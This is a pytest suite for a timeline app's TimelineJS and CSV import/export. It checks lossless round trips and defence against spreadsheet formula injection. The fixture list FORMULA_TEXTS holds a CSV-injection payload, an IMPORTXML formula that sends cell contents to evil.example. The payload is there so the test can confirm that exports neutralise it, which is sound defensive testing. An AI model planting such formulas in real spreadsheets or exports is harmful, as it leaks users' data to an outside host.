"""Import → export → import keeps every event, date, precision, text, media, group and era.

Dates keep their milliseconds through TimelineJS JSON; the sheet's Time keeps whole tenths of a
second only (as TimelineJS reads it), so milliseconds that are not are left out of the sheet.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from explorer.core import dates
from explorer.core.casefile import export_case, import_into, new_case, open_case
from explorer.core.dates import PartialDate
from explorer.core.interchange.formats import open_import
from explorer.core.interchange.html_markdown import html_to_markdown
from explorer.core.models import Entity, EntityKind, Era, Event, Media, Relationship
from explorer.core.store import CaseStore
from tests.conftest import BUNDLED_JSON
from tests.interchange.conftest import TIMELINEJS

FIXTURES = ["world-history.json", "houston-v2.json", "same-timeline.json", "same-timeline.csv", "title-without-headline.json",
            "reordered-sheet.csv"]


@contextmanager
def opened(path: Path) -> Iterator[CaseStore]:
    store = open_case(path)
    try:
        yield store
    finally:
        store.close()


def contents(store: CaseStore) -> tuple:
    return list(store.iter_events()), store.eras(), store.meta()


@pytest.mark.parametrize("fixture", FIXTURES)
@pytest.mark.parametrize("format", ["timelinejs", "timelinejs-csv"])
def test_import_export_import_is_lossless(tmp_path: Path, fixture: str, format: str) -> None:
    first, second = tmp_path / "first.case.db", tmp_path / "second.case.db"
    exported = tmp_path / ("out.json" if format == "timelinejs" else "out.csv")
    import_into(TIMELINEJS / fixture, first)
    with opened(first) as store:
        export_case(store, exported, format)
        before = contents(store)
    import_into(exported, second)
    with opened(second) as store:
        assert contents(store) == before
        again = tmp_path / ("again" + exported.suffix)
        export_case(store, again, format)
    assert again.read_bytes() == exported.read_bytes()


def test_the_bundled_case_keeps_what_timelinejs_can_hold(tmp_path: Path) -> None:
    case, exported, back = tmp_path / "scale.case.db", tmp_path / "scale.json", tmp_path / "back.case.db"
    import_into(BUNDLED_JSON, case)
    with opened(case) as store:
        export_case(store, exported, "timelinejs")
        original = {event.uid: event for event in store.iter_events()}
        eras = store.eras()
    import_into(exported, back)
    with opened(back) as store:
        for event in store.iter_events():
            source = original[event.uid]
            assert (event.title, event.start, event.end, event.display_date, event.category, event.media) == (
                source.title, source.start, source.end, source.display_date, source.category, source.media)
        assert [(e.title, e.start, e.end, e.summary) for e in store.eras()] == [(e.title, e.start, e.end, e.summary) for e in eras]
        assert store.event_count() == len(original)


def test_milliseconds_survive_timelinejs_json_and_whole_tenths_the_sheet(tmp_path: Path) -> None:
    date = {"year": 2025, "month": 6, "day": 12, "hour": 10, "minute": 0, "second": 0}
    source = tmp_path / "ms.json"
    source.write_text(json.dumps({
        "events": [
            {"start_date": {**date, "millisecond": 123}, "end_date": {**date, "second": 1, "millisecond": 7}, "text": {"headline": "A"}},
            {"start_date": {**date, "millisecond": 500}, "text": {"headline": "B"}},
        ],
        "eras": [{"start_date": {**date, "millisecond": 999}, "end_date": {**date, "second": 2}, "text": {"headline": "E"}}],
    }), encoding="utf-8")
    first = tmp_path / "first.case.db"
    import_into(source, first)
    with opened(first) as store:
        before = contents(store)
        for format, name in (("timelinejs", "out.json"), ("timelinejs-csv", "out.csv")):
            export_case(store, tmp_path / name, format)
    events, eras, _meta = before
    assert [(e.start.iso(), e.end and e.end.iso()) for e in events] == [
        ("2025-06-12T10:00:00.123", "2025-06-12T10:00:01.007"), ("2025-06-12T10:00:00.500", None)]
    assert [e.start.iso() for e in eras] == ["2025-06-12T10:00:00.999"]
    assert json.loads((tmp_path / "out.json").read_text(encoding="utf-8"))["events"][0]["start_date"]["millisecond"] == 123
    import_into(tmp_path / "out.json", tmp_path / "json.case.db")
    with opened(tmp_path / "json.case.db") as store:
        assert contents(store) == before
    import_into(tmp_path / "out.csv", tmp_path / "csv.case.db")
    with opened(tmp_path / "csv.case.db") as store:
        assert [(e.start.iso(), e.end and e.end.iso()) for e in store.iter_events()] == [
            ("2025-06-12T10:00:00", "2025-06-12T10:00:01"), ("2025-06-12T10:00:00.500", None)]
        assert [e.start.iso() for e in store.eras()] == ["2025-06-12T10:00:00"]


_WORDS = st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc", "Zs", "Zl", "Zp")), min_size=1, max_size=8)
_LINE = st.lists(_WORDS, min_size=1, max_size=5).map(" ".join)
_MARKDOWN = st.text(max_size=60).map(html_to_markdown)


def test_a_background_image_and_colour_round_trip_through_timelinejs_json(tmp_path: Path) -> None:
    """Both halves of a background survive JSON; the sheet's one Background cell keeps the image."""
    store = CaseStore.in_memory()
    store.put_event(Event(uid="e", title="Both", start=PartialDate(1969, 7), background="https://example.org/bg.jpg #000000"))
    store.put_event(Event(uid="f", title="Colour", start=PartialDate(1970), background="navy"))
    for name, expected in (("t.json", ["https://example.org/bg.jpg #000000", "navy"]), ("t.csv", ["https://example.org/bg.jpg", "navy"])):
        export_case(store, tmp_path / name, "timelinejs" if name.endswith("json") else "timelinejs-csv")
        back = CaseStore.in_memory()
        open_import(tmp_path / name).write(back)
        assert [event.background for event in back.iter_events()] == expected


@st.composite
def partial_dates(draw: st.DrawFn) -> PartialDate:
    year = draw(st.one_of(st.integers(-3000, 3000), st.integers(dates.MIN_YEAR, -1_000_000), st.integers(-999_998, 9999)))
    precision = draw(st.integers(1, 6))
    month = draw(st.integers(1, 12)) if precision >= 2 else None
    day = draw(st.integers(1, dates.days_in_month(year, month))) if precision >= 3 else None
    hour, minute = (draw(st.integers(0, 23)), draw(st.integers(0, 59))) if precision >= 4 else (None, None)
    second = draw(st.integers(0, 59)) if precision >= 5 else None
    millisecond = draw(st.integers(0, 999) | st.sampled_from([0, 100, 500, 900])) if precision == 6 else None
    return PartialDate(year, month, day, hour, minute, second, millisecond)


def _in_a_sheet(date: PartialDate | None) -> PartialDate | None:
    """A date as the sheet keeps it: milliseconds only when they are whole tenths."""
    if date is None or date.millisecond is None or date.millisecond % 100 == 0:
        return date
    return replace(date, millisecond=None)


@st.composite
def timeline_events(draw: st.DrawFn, index: int) -> Event:
    start = draw(partial_dates())
    end = draw(st.none() | partial_dates())
    if end is not None and dates.end_seconds(end) <= dates.start_seconds(start):
        end = None
    media = draw(st.none() | st.builds(
        Media, url=st.just("https://example.org/x.jpg"), caption=_MARKDOWN, credit=_MARKDOWN, thumbnail=st.sampled_from(["", "https://e.org/t.png"]),
        alt=st.just("") | _LINE, title=st.just("") | _LINE, link=st.sampled_from(["", "https://example.org/"]),
    ))
    return Event(
        uid=f"ev-{index}", title=draw(_LINE), start=start, end=end, body=draw(_MARKDOWN), display_date=draw(st.just("") | _LINE),
        category=draw(st.just("") | _LINE), media=media, background=draw(st.sampled_from([None, "#0f9bd1", "navy", "https://e.org/bg.jpg"])),
    )


@settings(max_examples=15, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.data())
def test_any_timeline_survives_timelinejs(tmp_path_factory: pytest.TempPathFactory, data: st.DataObject) -> None:
    folder = tmp_path_factory.mktemp("round")
    store = CaseStore.in_memory()
    events = [data.draw(timeline_events(index)) for index in range(data.draw(st.integers(1, 6)))]
    for event in events:
        store.put_event(event)
    start = data.draw(partial_dates())
    store.put_era(Era(uid="era", title=data.draw(_LINE), start=start, end=start, summary=data.draw(_MARKDOWN)))
    store.set_meta("title", data.draw(_LINE))
    for format, name in (("timelinejs", "t.json"), ("timelinejs-csv", "t.csv")):
        out = folder / name
        with out.open("w", encoding="utf-8", newline="") as handle:
            from explorer.core.interchange import exports

            exports.write(store, handle, format)
        back = CaseStore.in_memory()
        open_import(out).write(back)
        kept = (lambda date: date) if format == "timelinejs" else _in_a_sheet
        assert list(back.iter_events()) == [replace(e, start=kept(e.start), end=kept(e.end)) for e in store.iter_events()]
        assert [(e.title, e.start, e.end, e.summary) for e in back.eras()] == [
            (e.title, kept(e.start), kept(e.end), e.summary) for e in store.eras()]
        assert back.meta()["title"] == store.meta()["title"]


def _ties(store: CaseStore) -> set[tuple]:
    """Every relationship by the names of its ends, with what the relationships CSV holds."""
    names = {entity.uid: entity.name for entity in store.entities()}
    return {(names[r.source_uid], r.type, names[r.target_uid], r.start, r.end, r.label, r.directed, r.certainty, r.summary)
            for r in store.relationships()}


def _ends(store: CaseStore) -> set[tuple]:
    """The entities at either end of a relationship: uid, name and kind."""
    used = {uid for r in store.relationships() for uid in (r.source_uid, r.target_uid)}
    return {(e.uid, e.name, e.kind) for e in store.entities() if e.uid in used}


def test_the_relationships_csv_round_trips_into_a_new_case(tmp_path: Path) -> None:
    """A trial's relationships CSV, imported into a new case, named its entities "openai" and
    "alexandr-wang", all organizations: the source_name and target_name columns were ignored."""
    case, exported, back = tmp_path / "scale.case.db", tmp_path / "s.csv", tmp_path / "new.case.db"
    import_into(BUNDLED_JSON, case)
    with opened(case) as store:
        export_case(store, exported, "csv")
        ties, ends = _ties(store), _ends(store)
    report = import_into(exported, back)
    assert report.added["relationships"] == len(ties)
    with opened(back) as store:
        assert _ties(store) == ties
        assert _ends(store) == ends  # the same uids, names and kinds: a later case JSON import merges with them
    assert "added the entity 'Alexandr Wang' (kind: person" in "\n".join(report.remarks)


def test_a_relationships_csv_without_kind_columns_still_names_its_entities(tmp_path: Path) -> None:
    """Files exported before the source_kind and target_kind columns: names kept, new ends are organizations."""
    case, exported, back = tmp_path / "scale.case.db", tmp_path / "s.csv", tmp_path / "new.case.db"
    import_into(BUNDLED_JSON, case)
    with opened(case) as store:
        export_case(store, exported, "csv")
        ties, ends = _ties(store), _ends(store)
    with exported.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    older = tmp_path / "older.csv"
    with older.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, [name for name in rows[0] if not name.endswith("_kind")], extrasaction="ignore")
        writer.writeheader()
        writer.writerows(rows)
    import_into(older, back)
    with opened(back) as store:
        assert _ties(store) == ties
        assert _ends(store) == {(uid, name, EntityKind.ORGANIZATION) for uid, name, _ in ends}


# Text a spreadsheet would run as a formula (OWASP "CSV injection"), or read as a number, and text
# that only looks like what the exports write to prevent it (an apostrophe before it).
FORMULA_TEXTS = ('=IMPORTXML("http://evil.example/?q="&A1,"//a")', "-5%", "+1 555 0100", "@SUM(A1:A9)", "'=already quoted",
                 "''-two apostrophes", "'tis the season", "'0123")
_FORMULA_STARTS = tuple("=+-@\t\r")


def _raw_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_formula_text_is_written_safe_and_read_back_from_the_relationships_csv(tmp_path: Path) -> None:
    """The relationships CSV once wrote ``=IMPORTXML(…)`` as it was: Google Sheets or Excel ran it."""
    case, exported, back = tmp_path / "f.case.db", tmp_path / "f.csv", tmp_path / "back.case.db"
    new_case(case, "Formulas")
    with opened(case) as store:
        for index, text in enumerate(FORMULA_TEXTS):
            store.put_entity(Entity(uid=f"e{index}", kind=EntityKind.COMPANY, name=text))
        for index, text in enumerate(FORMULA_TEXTS[1:], 1):
            store.put_relationship(Relationship(
                uid=f"r{index}", source_uid="e0", target_uid=f"e{index}", type="partner_of", label=text, summary=text,
                start=PartialDate(-43, 3, 15) if index == 1 else None, end=PartialDate(-43, 12) if index == 1 else None,
            ))
        export_case(store, exported, "csv")
        ties, ends = _ties(store), _ends(store)
    rows = _raw_cells(exported)
    assert all(not cell.startswith(_FORMULA_STARTS) for row in rows for cell in row)
    header = rows[0]
    first = dict(zip(header, rows[1], strict=True))
    assert first["source_name"] == "'" + FORMULA_TEXTS[0]
    assert (first["label"], first["start"], first["end"]) == ("'-5%", "'-0043-03-15", "'-0043-12")
    assert {row[header.index("label")] for row in rows[1:]} >= {"''=already quoted", "'''-two apostrophes", "'tis the season"}
    import_into(exported, back)
    with opened(back) as store:
        assert _ties(store) == ties
        assert _ends(store) == ends


def test_sheet_cells_are_made_formula_safe_but_years_stay_numbers() -> None:
    from explorer.core.interchange.timelinejs_sheet import formula_safe_sheet_rows

    headers = ("Year", "Month", "Day", "Time", "End Year", "End Month", "End Day", "End Time", "Display Date", "Headline", "Text")
    row = ["-500", "3", "15", "", "-44", "", "", "", "-500 (501 BCE)", "-5%", "<p>=1+1</p>"]
    assert list(formula_safe_sheet_rows(headers, [row])) == [
        ["-500", "3", "15", "", "-44", "", "", "", "'-500 (501 BCE)", "'-5%", "<p>=1+1</p>"]]


def test_formula_text_is_written_safe_and_read_back_from_the_timelinejs_sheet(tmp_path: Path) -> None:
    case, exported, back = tmp_path / "f.case.db", tmp_path / "f.csv", tmp_path / "back.case.db"
    new_case(case, "=Formulas")
    with opened(case) as store:
        for index, text in enumerate(FORMULA_TEXTS):
            store.put_event(Event(uid=f"ev-{index}", title=text, start=PartialDate(-499 - index), category=text,
                                  display_date=text))
        export_case(store, exported, "timelinejs-csv")
        before = contents(store)
    rows = _raw_cells(exported)
    header = rows[0]
    assert [row[header.index("Year")] for row in rows[2:]] == [str(-500 - index) for index in range(len(FORMULA_TEXTS))]
    assert all(not cell.startswith(_FORMULA_STARTS) for row in rows for column, cell in zip(header, row, strict=True)
               if column != "Year")
    assert rows[2][header.index("Headline")].startswith("'=IMPORTXML(")
    import_into(exported, back)
    with opened(back) as store:
        assert contents(store) == before
